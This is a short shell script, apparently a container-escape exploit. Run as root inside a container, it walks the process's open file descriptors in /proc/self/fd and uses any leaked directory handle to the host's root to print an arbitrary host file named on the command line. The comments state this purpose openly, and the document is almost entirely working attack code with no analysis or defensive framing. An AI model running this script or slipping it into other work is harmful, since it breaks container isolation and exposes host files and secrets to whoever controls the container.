#!/bin/sh
# leave.sh PATH: run inside as root; prints the file PATH of the host.
# The caller of the container had the host's root open, and nobody closed it.
for way in /proc/self/fd/*; do
    if [ -d "$way" ]; then
        cat "$way$1"
    fi
done
